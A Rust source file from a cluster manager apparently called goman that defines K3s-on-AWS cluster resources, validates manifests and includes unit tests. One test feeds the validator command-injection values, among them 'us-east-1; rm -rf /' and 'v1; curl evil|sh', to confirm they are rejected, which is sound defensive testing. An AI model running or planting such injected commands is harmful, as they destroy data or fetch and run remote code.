//! goman's `ClusterResource`: metadata, spec and status, as JSON in the
//! state store (camelCase field names, as goman wrote them), and the
//! validation of a spec.

use std::collections::BTreeMap;
use std::fmt;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};

/// The `apiVersion` written into every document.
pub const API_VERSION: &str = "goman.io/v1";
/// The `kind` written into every document.
pub const KIND: &str = "Cluster";

/// A cluster: what the user asked for (`spec`) and what the controller saw
/// and did (`status`).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ClusterResource {
    /// Always [`API_VERSION`].
    #[serde(default = "api_version")]
    pub api_version: String,
    /// Always [`KIND`].
    #[serde(default = "kind")]
    pub kind: String,
    /// Name, uid, versions, timestamps.
    pub metadata: Metadata,
    /// What the user wants.
    pub spec: ClusterSpec,
    /// What the controller observed.
    #[serde(default)]
    pub status: ClusterStatus,
}

fn api_version() -> String {
    API_VERSION.to_owned()
}

fn kind() -> String {
    KIND.to_owned()
}

/// Object metadata (Kubernetes' shape, as goman kept it).
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Metadata {
    /// The cluster's name: `[a-z0-9-]`, 1 to 40 characters, starting with a
    /// letter (it becomes part of S3 keys, tags and SSM parameter names).
    pub name: String,
    /// The profile the cluster belongs to.
    #[serde(default)]
    pub namespace: String,
    /// Set once, at creation; part of every instance's client token.
    #[serde(default)]
    pub uid: String,
    /// Incremented at every write of the document.
    #[serde(default)]
    pub resource_version: u64,
    /// Incremented when the spec changes.
    #[serde(default)]
    pub generation: u64,
    /// When the cluster was first applied.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub creation_timestamp: Option<DateTime<Utc>>,
    /// Set by `cluster delete`: the controller then drains and terminates.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub deletion_timestamp: Option<DateTime<Utc>>,
    /// Free-form labels.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub labels: BTreeMap<String, String>,
}

/// What the user asks for.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct ClusterSpec {
    /// Only `aws`.
    #[serde(default = "provider")]
    pub provider: String,
    /// The AWS region.
    pub region: String,
    /// The EC2 instance type of every node.
    pub instance_type: String,
    /// 1 (developer) or 3 (ha).
    pub master_count: u32,
    /// `developer` (1 master) or `ha` (3 masters, embedded etcd).
    pub mode: Mode,
    /// The K3s version to install (`v1.31.4+k3s1`).
    pub k3s_version: String,
    /// Tags put on every instance (besides the controller's own).
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub tags: BTreeMap<String, String>,
    /// `true` stops every instance (phase `Stopped`); back to `false`
    /// starts them again.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub stopped: bool,
    /// What a provisioning that cannot complete leaves behind: `keep` (the
    /// default: instances stay for inspection, phase `Failed`) or `cleanup`
    /// (the provisioning saga's compensation terminates what it created).
    #[serde(default)]
    pub on_failure: OnFailure,
}

fn provider() -> String {
    "aws".to_owned()
}

/// The cluster's shape.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Mode {
    /// One master.
    Developer,
    /// Three masters with embedded etcd.
    Ha,
}

/// What a failed provisioning leaves behind.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum OnFailure {
    /// Keep what was created.
    #[default]
    Keep,
    /// Terminate what was created.
    Cleanup,
}

/// The lifecycle phases of goman.
#[derive(
    Debug, Clone, Copy, Default, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize,
)]
pub enum Phase {
    /// Applied, nothing done yet.
    #[default]
    Pending,
    /// Instances are being created.
    Provisioning,
    /// K3s is being installed.
    Installing,
    /// Waiting for every node to be Ready.
    Configuring,
    /// Every node Ready.
    Running,
    /// The spec changed: scaling or upgrading.
    Updating,
    /// Instances are being stopped.
    Stopping,
    /// Every instance stopped.
    Stopped,
    /// Instances are being started.
    Starting,
    /// Deletion asked: draining nodes.
    Deleting,
    /// Instances are being terminated.
    Terminating,
    /// Provisioning could not complete (see `message`).
    Failed,
}

impl Phase {
    /// Every phase, for metrics.
    pub const ALL: [Phase; 12] = [
        Phase::Pending,
        Phase::Provisioning,
        Phase::Installing,
        Phase::Configuring,
        Phase::Running,
        Phase::Updating,
        Phase::Stopping,
        Phase::Stopped,
        Phase::Starting,
        Phase::Deleting,
        Phase::Terminating,
        Phase::Failed,
    ];

    /// The phase's name.
    pub const fn as_str(self) -> &'static str {
        match self {
            Phase::Pending => "Pending",
            Phase::Provisioning => "Provisioning",
            Phase::Installing => "Installing",
            Phase::Configuring => "Configuring",
            Phase::Running => "Running",
            Phase::Updating => "Updating",
            Phase::Stopping => "Stopping",
            Phase::Stopped => "Stopped",
            Phase::Starting => "Starting",
            Phase::Deleting => "Deleting",
            Phase::Terminating => "Terminating",
            Phase::Failed => "Failed",
        }
    }
}

impl fmt::Display for Phase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// What the controller observed and did.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ClusterStatus {
    /// The current phase.
    #[serde(default)]
    pub phase: Phase,
    /// When the cluster entered `phase`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub phase_since: Option<DateTime<Utc>>,
    /// The generation the status describes (set when `Running` is reached
    /// for that generation).
    #[serde(default)]
    pub observed_generation: u64,
    /// Conditions (`Ready`, `FleetHealthy`, ...).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub conditions: Vec<Condition>,
    /// One entry per node, planned or running. An entry is written with its
    /// client token *before* the instance is created.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub instances: Vec<InstanceStatus>,
    /// `https://<first master>:6443` once the cluster runs.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub api_endpoint: Option<String>,
    /// A human-readable note on the last thing that went wrong.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub message: Option<String>,
    /// Bumped each time provisioning runs again (a repair, a scale-up, an
    /// upgrade, a restart): part of the provisioning saga's id.
    #[serde(default)]
    pub provisioning_round: u32,
}

/// A condition, Kubernetes style.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Condition {
    /// `Ready`, `FleetHealthy`, ...
    #[serde(rename = "type")]
    pub kind: String,
    /// `True`, `False` or `Unknown`.
    pub status: String,
    /// A CamelCase reason.
    pub reason: String,
    /// Details.
    #[serde(default)]
    pub message: String,
    /// When `status` last changed.
    pub last_transition_time: DateTime<Utc>,
}

/// One node.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct InstanceStatus {
    /// `master`.
    pub role: String,
    /// 0-based index within the role.
    pub index: u32,
    /// Bumped when the node is replaced (part of the client token).
    #[serde(default)]
    pub incarnation: u32,
    /// The generation the entry was planned at.
    #[serde(default)]
    pub generation: u64,
    /// The EC2 client token, derived from (uid, role, index, generation,
    /// incarnation) and recorded before `RunInstances`.
    pub client_token: String,
    /// Set once EC2 answered (or the instance was found by its token).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub instance_id: Option<String>,
    /// EC2's state name, or `planned` before creation.
    #[serde(default = "planned")]
    pub state: String,
    /// Private IPv4 address.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub private_ip: Option<String>,
    /// Public IPv4 address.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub public_ip: Option<String>,
    /// K3s installed on it.
    #[serde(default)]
    pub k3s_installed: bool,
    /// The version installed.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub k3s_version: Option<String>,
    /// The node reported Ready.
    #[serde(default)]
    pub ready: bool,
    /// When the instance was created (for the startup timeout).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub launched_at: Option<DateTime<Utc>>,
}

fn planned() -> String {
    "planned".to_owned()
}

impl InstanceStatus {
    /// The node's name in tags, logs and `kubectl`.
    pub fn node_name(&self, cluster: &str) -> String {
        format!("{cluster}-{}-{}", self.role, self.index)
    }
}

/// A spec or name the controller refuses.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("invalid cluster {field}: {reason}")]
pub struct Invalid {
    /// The offending field (`spec.masterCount`).
    pub field: &'static str,
    /// Why.
    pub reason: String,
}

fn invalid(field: &'static str, reason: impl Into<String>) -> Invalid {
    Invalid {
        field,
        reason: reason.into(),
    }
}

/// Checks a cluster name: `[a-z][a-z0-9-]{0,39}`, not ending in `-`.
///
/// # Errors
/// [`Invalid`] naming `metadata.name`.
pub fn validate_name(name: &str) -> Result<(), Invalid> {
    let ok = !name.is_empty()
        && name.len() <= 40
        && name.as_bytes()[0].is_ascii_lowercase()
        && !name.ends_with('-')
        && name
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
    if ok {
        Ok(())
    } else {
        Err(invalid(
            "metadata.name",
            format!(
                "{name:?} must be 1 to 40 of [a-z0-9-], start with a letter and not end with '-'"
            ),
        ))
    }
}

impl ClusterSpec {
    /// Checks the spec.
    ///
    /// # Errors
    /// [`Invalid`] naming the field.
    pub fn validate(&self) -> Result<(), Invalid> {
        if self.provider != "aws" {
            return Err(invalid(
                "spec.provider",
                format!("{:?} is not supported (only \"aws\")", self.provider),
            ));
        }
        let region_ok = !self.region.is_empty()
            && self.region.len() <= 32
            && self
                .region
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
        if !region_ok {
            return Err(invalid(
                "spec.region",
                format!("{:?} is not an AWS region name", self.region),
            ));
        }
        let type_ok = !self.instance_type.is_empty()
            && self.instance_type.len() <= 32
            && self.instance_type.contains('.')
            && self
                .instance_type
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-');
        if !type_ok {
            return Err(invalid(
                "spec.instanceType",
                format!("{:?} is not an EC2 instance type", self.instance_type),
            ));
        }
        match (self.mode, self.master_count) {
            (Mode::Developer, 1) | (Mode::Ha, 3) => {}
            (Mode::Developer, n) => {
                return Err(invalid(
                    "spec.masterCount",
                    format!("developer mode runs 1 master, not {n}"),
                ));
            }
            (Mode::Ha, n) => {
                return Err(invalid(
                    "spec.masterCount",
                    format!("ha mode runs 3 masters, not {n}"),
                ));
            }
        }
        let version_ok = self.k3s_version.starts_with('v')
            && self.k3s_version.len() <= 40
            && self
                .k3s_version
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"+.-".contains(&b));
        if !version_ok {
            return Err(invalid(
                "spec.k3sVersion",
                format!(
                    "{:?} is not a K3s version like v1.31.4+k3s1",
                    self.k3s_version
                ),
            ));
        }
        if self.tags.len() > 40 {
            return Err(invalid(
                "spec.tags",
                "at most 40 tags (EC2 allows 50, the controller uses 10)",
            ));
        }
        for (k, v) in &self.tags {
            if k.is_empty()
                || k.len() > 128
                || v.len() > 256
                || k.starts_with("aws:")
                || k.starts_with("goman:")
            {
                return Err(invalid(
                    "spec.tags",
                    format!(
                        "tag {k:?}: keys are 1 to 128 characters, values at most 256, and aws: and goman: are reserved"
                    ),
                ));
            }
            if k.contains('\0') || v.contains('\0') {
                return Err(invalid("spec.tags", format!("tag {k:?} contains NUL")));
            }
        }
        Ok(())
    }
}

/// What a user writes in `cluster.yaml`: a name and a spec (anything else
/// is the controller's).
#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Manifest {
    /// `goman.io/v1` if given.
    #[serde(default)]
    pub api_version: Option<String>,
    /// `Cluster` if given.
    #[serde(default)]
    pub kind: Option<String>,
    /// Only `name` and `labels` are read.
    pub metadata: ManifestMetadata,
    /// The spec.
    pub spec: ClusterSpec,
}

/// The metadata a user may set.
#[derive(Debug, Clone, PartialEq, Deserialize)]
pub struct ManifestMetadata {
    /// The cluster's name.
    pub name: String,
    /// Labels.
    #[serde(default)]
    pub labels: BTreeMap<String, String>,
}

impl Manifest {
    /// Parses YAML (or JSON, a subset) and validates it.
    ///
    /// # Errors
    /// [`Invalid`] with the parser's message or the offending field.
    pub fn parse(text: &str) -> Result<Manifest, Invalid> {
        if text.len() > 64 * 1024 {
            return Err(invalid("manifest", "larger than 64 KiB"));
        }
        let manifest: Manifest =
            serde_yaml::from_str(text).map_err(|e| invalid("manifest", e.to_string()))?;
        if let Some(v) = &manifest.api_version
            && v != API_VERSION
        {
            return Err(invalid(
                "apiVersion",
                format!("{v:?} (expected {API_VERSION:?})"),
            ));
        }
        if let Some(k) = &manifest.kind
            && k != KIND
        {
            return Err(invalid("kind", format!("{k:?} (expected {KIND:?})")));
        }
        validate_name(&manifest.metadata.name)?;
        manifest.spec.validate()?;
        Ok(manifest)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HA: &str = "apiVersion: goman.io/v1\nkind: Cluster\nmetadata:\n  name: prod\nspec:\n  region: us-east-1\n  instanceType: t3.medium\n  masterCount: 3\n  mode: ha\n  k3sVersion: v1.31.4+k3s1\n";

    #[test]
    fn a_manifest_parses_and_validates() {
        let m = Manifest::parse(HA).unwrap();
        assert_eq!(m.metadata.name, "prod");
        assert_eq!(m.spec.master_count, 3);
        assert_eq!(m.spec.on_failure, OnFailure::Keep);
    }

    #[test]
    fn mode_and_master_count_must_agree() {
        let e = Manifest::parse(&HA.replace("masterCount: 3", "masterCount: 2")).unwrap_err();
        assert_eq!(e.field, "spec.masterCount");
        let e = Manifest::parse(&HA.replace("mode: ha", "mode: developer")).unwrap_err();
        assert_eq!(e.field, "spec.masterCount");
    }

    #[test]
    fn hostile_names_and_fields_are_refused() {
        for name in [
            "",
            "Prod",
            "a\"b",
            "a\nb",
            "-a",
            "a-",
            &"a".repeat(41),
            "a/b",
            "a\0b",
        ] {
            assert!(validate_name(name).is_err(), "{name:?}");
        }
        let e = Manifest::parse(&HA.replace("t3.medium", "\"t3.medium\\u0000\"")).unwrap_err();
        assert_eq!(e.field, "spec.instanceType");
        let e = Manifest::parse(&HA.replace("us-east-1", "\"us-east-1; rm -rf /\"")).unwrap_err();
        assert_eq!(e.field, "spec.region");
        let e = Manifest::parse(&HA.replace("v1.31.4+k3s1", "\"v1; curl evil|sh\"")).unwrap_err();
        assert_eq!(e.field, "spec.k3sVersion");
        let e = Manifest::parse(&format!("{HA}  bogus: 1\n")).unwrap_err();
        assert_eq!(e.field, "manifest");
        assert!(Manifest::parse(&"x".repeat(70_000)).is_err());
    }

    #[test]
    fn a_document_round_trips_in_gomans_field_names() {
        let doc = ClusterResource {
            api_version: API_VERSION.into(),
            kind: KIND.into(),
            metadata: Metadata {
                name: "prod".into(),
                generation: 2,
                ..Metadata::default()
            },
            spec: Manifest::parse(HA).unwrap().spec,
            status: ClusterStatus {
                phase: Phase::Running,
                observed_generation: 2,
                ..ClusterStatus::default()
            },
        };
        let json = serde_json::to_value(&doc).unwrap();
        assert_eq!(json["spec"]["masterCount"], 3);
        assert_eq!(json["status"]["observedGeneration"], 2);
        assert_eq!(json["status"]["phase"], "Running");
        let back: ClusterResource = serde_json::from_value(json).unwrap();
        assert_eq!(back, doc);
    }
}
